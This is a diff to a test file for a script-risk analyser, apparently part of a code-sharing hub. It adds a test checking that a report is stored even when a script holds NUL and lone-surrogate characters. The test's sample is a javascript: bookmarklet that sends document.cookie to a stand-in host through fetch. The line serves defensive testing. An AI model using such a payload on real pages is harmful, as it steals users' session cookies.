@@ -67,6 +67,14 @@ describe("rating a saved version", () => {
 		expect(read).toMatchObject({ ok: true, value: { state: "rated", risk_level: "unrated" } });
 	});
 
+	test("what a script's strings come to does not keep its report from being stored", async () => {
+		// NUL and half a surrogate pair: PostgreSQL's jsonb takes neither.
+		const address = "https://e\\x00\\ud800.example/\\ud800?c=";
+		const saved = await save(author, { p_code: `javascript:void fetch("${address}"+document.cookie)` });
+		expect(await analyzeVersion(author.hub, { versionId: saved.version_id })).toMatchObject({ ok: true });
+		expect(await reportsOf(world, saved.version_id)).toHaveLength(1);
+	});
+
 	test("the older version keeps its rating, and a new save is unrated until it was analysed", async () => {
 		const first = await save(author, { p_code: samples.harmless });
 		await analyzeVersion(author.hub, { versionId: first.version_id });
